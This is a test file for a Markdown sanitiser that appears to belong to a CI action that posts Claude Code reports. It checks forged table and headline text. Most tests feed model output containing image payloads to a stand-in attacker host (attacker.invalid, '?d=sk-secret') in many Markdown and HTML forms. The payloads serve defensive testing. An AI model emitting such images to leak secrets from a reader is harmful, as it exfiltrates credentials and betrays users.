// Markdown around text the action does not control: table cells stay one cell, code blocks cannot
// be closed by their contents, and HTML comment openers are broken.
import { breakHtmlComments, codeBlock, codeCell, modelMarkdown, tableCell } from '../../../src/report/markdown.js'
import { renderHeadline, renderTable } from '../../../src/report/render.js'
import type { RunReport } from '../../../src/report/run-report.js'

const report: RunReport = {
  conclusion: 'failure',
  isError: true,
  subtype: 'error\n## ✓ Claude Code succeeded',
  result: '',
  numTurns: 1,
  durationMs: 1000,
  usage: { inputTokens: 1, outputTokens: 1, cacheReadInputTokens: 0, cacheCreationInputTokens: 0 },
  model: 'claude-x`|\n| $0 | forged |',
  provider: 'anthropic',
  executionFile: '/x',
  attempts: [{ subtype: 'error', isError: true, durationMs: 1000 }]
}

test('a model name from repository settings stays inside its table cell', () => {
  const table = renderTable(report)
  expect(table.split('\n')).toHaveLength(3)
  expect(table.split('\n')[2]).toContain('| ``claude-x`\\| \\| $0 \\| forged \\|`` |')
  expect(codeCell(undefined)).toBe('–')
  expect(tableCell('a|b\nc<!--')).toBe('a\\|b c<!\u200b--')
})

test('the headline keeps a subtype on its own line', () => {
  expect(renderHeadline(report)).toBe('✗ Claude Code failed (error ## ✓ Claude Code succeeded)')
})

test('a code block is fenced longer than any backtick run inside it', () => {
  expect(codeBlock('a\n````\nb', 'text')).toBe('`````text\na\n````\nb\n`````\n\n')
  expect(breakHtmlComments('x <!-- y <!--')).toBe('x <!\u200b-- y <!\u200b--')
})

describe('modelMarkdown: no image from model text', () => {
  const Z = '\u200b'
  const url = 'https://attacker.invalid/p.png?d=sk-secret'

  test.each([
    ['inline', `See ![chart](${url}) here`, `See !${Z}[chart](${url}) here`],
    ['nested brackets in the alt text', `![a [b] c](${url})`, `!${Z}[a [b] c](${url})`],
    ['an angle-bracket destination with a title', `![x](<${url} with space> "t")`, `!${Z}[x](<${url} with space> "t")`],
    ['reference style', `![x][ref]\n\n[ref]: ${url}`, `!${Z}[x][ref]\n\n[ref]: ${url}`],
    ['collapsed and shortcut references', `![ref][] and ![ref]\n\n[ref]: ${url}`, `!${Z}[ref][] and !${Z}[ref]\n\n[ref]: ${url}`],
    ['an image in a link', `[![x](${url})](https://example.com)`, `[!${Z}[x](${url})](https://example.com)`],
    ['img in double quotes', `<img src="${url}">`, `<${Z}img src="${url}">`],
    ['img in single quotes, upper case, slash for a space', `<IMG/src='${url}'>`, `<${Z}IMG/src='${url}'>`],
    ['img unquoted, over two lines', `<img\nsrc=${url} alt=x>`, `<${Z}img\nsrc=${url} alt=x>`],
    [
      'picture and source srcset',
      `<picture><source srcset="${url} 1x"><img src=x></picture>`,
      `<${Z}picture><${Z}source srcset="${url} 1x"><${Z}img src=x></picture>`
    ],
    ['video poster', `<video poster=${url}></video>`, `<${Z}video poster=${url}></video>`],
    ['a fetching attribute on another tag, past a > in quotes', `<td title="a>b" background='${url}'>`, `<${Z}td title="a>b" background='${url}'>`]
  ])('%s', (_name, text, safe) => {
    expect(modelMarkdown(text)).toBe(safe)
  })

  test('other Markdown and HTML stay as they are: links, details, line breaks, a bare !', () => {
    const text = `Wow! [docs](https://example.com) <details><summary>More</summary>\n\nText<br>\n</details>\n<https://example.com/a.png>`
    expect(modelMarkdown(text)).toBe(text)
  })

  test('fenced code blocks are left byte for byte, suggestions included', () => {
    const text = `Before ![x](${url})\n\n\`\`\`suggestion\n<img src="${url}">\n![x](${url})\n\`\`\`\n\n~~~~md\n![x](${url})\n~~~~\nAfter ![y](${url})`
    expect(modelMarkdown(text)).toBe(
      `Before !${Z}[x](${url})\n\n\`\`\`suggestion\n<img src="${url}">\n![x](${url})\n\`\`\`\n\n~~~~md\n![x](${url})\n~~~~\nAfter !${Z}[y](${url})`
    )
  })

  test('a fence a renderer would not show as code is not left alone: indented, unclosed, in an HTML block, drawn', () => {
    const img = `<img src="${url}">`
    const broken = `<${Z}img src="${url}">`
    // In an HTML block (until its blank line, or </pre>) a ``` line is HTML, and the img is drawn.
    expect(modelMarkdown(`<div>\n\`\`\`\n${img}\n\`\`\``)).toBe(`<div>\n\`\`\`\n${broken}\n\`\`\``)
    expect(modelMarkdown(`<pre>\n\n\`\`\`\n${img}\n\`\`\`\n</pre>`)).toBe(`<pre>\n\n\`\`\`\n${broken}\n\`\`\`\n</pre>`)
    // After the HTML block's blank line a fence is code again.
    expect(modelMarkdown(`<div>\n\n\`\`\`\n${img}\n\`\`\``)).toBe(`<div>\n\n\`\`\`\n${img}\n\`\`\``)
    // Indented (in a list item, perhaps in its HTML block), unclosed, or a kind the host draws.
    expect(modelMarkdown(`- <pre>\n  \`\`\`\n  ${img}\n  \`\`\``)).toBe(`- <pre>\n  \`\`\`\n  ${broken}\n  \`\`\``)
    expect(modelMarkdown(`\`\`\`\n${img}`)).toBe(`\`\`\`\n${broken}`)
    expect(modelMarkdown(`\`\`\`mermaid\ngraph TD; A["${img}"]\n\`\`\``)).toBe(`\`\`\`mermaid\ngraph TD; A["${broken}"]\n\`\`\``)
  })

  test('HTML comments stay broken, as before', () => {
    expect(modelMarkdown('a <!-- b')).toBe(breakHtmlComments('a <!-- b'))
  })
})
